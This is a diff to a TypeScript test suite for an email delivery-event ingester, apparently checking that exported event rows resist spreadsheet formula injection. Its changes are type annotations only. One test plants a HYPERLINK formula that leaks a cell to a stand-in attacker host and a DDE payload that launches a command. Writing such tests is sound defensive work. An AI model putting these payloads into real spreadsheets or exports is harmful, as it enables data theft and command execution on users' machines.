@@ -31,7 +31,7 @@ function notification(name: Parameters<typeof sesFixture>[0], client: TestClient
   const now = new Date().toISOString();
   n.mail.timestamp = now;
   n.mail.destination = [email];
-  for (const part of ['bounce', 'complaint', 'open', 'click']) if (n[part]) n[part].timestamp = now;
+  for (const part of ['bounce', 'complaint', 'open', 'click'] as const) if (n[part]) n[part].timestamp = now;
   for (const r of n.bounce?.bouncedRecipients ?? n.complaint?.complainedRecipients ?? []) r.emailAddress = email;
   return n;
 }
@@ -104,7 +104,7 @@ describe('SES delivery-event ingester', () => {
     await applySubscribers(client.username, third.id, [{ line: 1, email: 'dead@x.io', subscribed: false, unsubscribedCause: 'READER' }]);
     await applySubscribers(other.username, other.defaultListId, [{ line: 1, email: 'dead@x.io', subscribed: true }]);
     const bounce = notification('bounce-permanent', client, 'dead@x.io');
-    delete bounce.mail.tags.email_list_id;
+    delete bounce.mail.tags!.email_list_id;
     const event = sqsEvent([bounce]);
     expect(await ingest(event)).toMatchObject({ events: 1, unsubscribed: 2, batchItemFailures: [] });
     expect(await getSubscriber(client.username, client.defaultListId, 'dead@x.io')).toMatchObject({ subscribed: false, unsubscribedCause: 'HARD_BOUNCE' });
@@ -137,9 +137,9 @@ describe('SES delivery-event ingester', () => {
     const client = await newClient(service, { premiumEvents: true });
     const leak = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")';
     const bounce = notification('bounce-transient', client, 'soft@x.io');
-    bounce.bounce.bouncedRecipients[0].diagnosticCode = leak;
+    bounce.bounce!.bouncedRecipients[0].diagnosticCode = leak;
     const click = notification('click', client, 'reader@x.io');
-    click.click.link = "=cmd|' /C calc'!A0";
+    click.click!.link = "=cmd|' /C calc'!A0";
     const send = notification('send', client, '+1+cmd@x.io');
     await ingest(sqsEvent([bounce, click, send]));
     const row = async (event: string, raw = false) => {
